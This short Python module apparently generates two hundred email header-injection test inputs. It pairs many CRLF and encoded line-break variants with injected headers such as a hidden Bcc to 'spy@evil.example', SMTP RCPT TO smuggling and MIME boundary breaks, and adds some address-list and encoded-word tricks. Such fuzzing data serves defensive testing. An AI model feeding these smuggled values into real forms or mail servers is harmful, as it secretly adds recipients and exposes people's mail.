"""Two hundred things that somebody might type to open a header, or a recipient, of his own."""

from itertools import islice, product

BREAKS = (
    "\r\n", "\n", "\r", "\n\r", "\r\n\r\n", "\r\n ", "\r\n\t", "\x00", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85",
    "\u2028", "\u2029", "\u010a\u010d", "\x00\r\n", "%0d%0a", "\\r\\n", "&#13;&#10;", "=0D=0A", "\ufeff\r\n", "\u202e\r\n",
)  # fmt: skip
HEADERS = (
    "Bcc: spy@evil.example",
    "To: spy@evil.example",
    "X-Injected: yes",
    "Content-Type: text/html\r\n\r\n<script>x</script>",
    "Subject: other\r\nCc: spy@evil.example",
    ".\r\nRCPT TO:<spy@evil.example>",
    "--=_\r\nContent-Type: text/html",
    "ATTENDEE:mailto:spy@evil.example",
)
ODD = (
    "=?utf-8?Q?a=0D=0ABcc:_spy@evil.example?=", "=?utf-8?B?DQpCY2M6IHNweUBldmlsLmV4YW1wbGU=?=",
    '"x" <spy@evil.example>', "x, spy@evil.example", "x; spy@evil.example", "<spy@evil.example>", "a" * 3_000,
    "é" * 900, "日本" * 400, "xqtoxz xqidxz xqleavexz", "=?utf-8?Q?unfinished", "(comment) spy@evil.example",
)  # fmt: skip

PAYLOADS = [
    *ODD,
    *islice((f"Ann{mark}{header}" for mark, header in product(BREAKS, HEADERS)), 200 - len(ODD)),
]
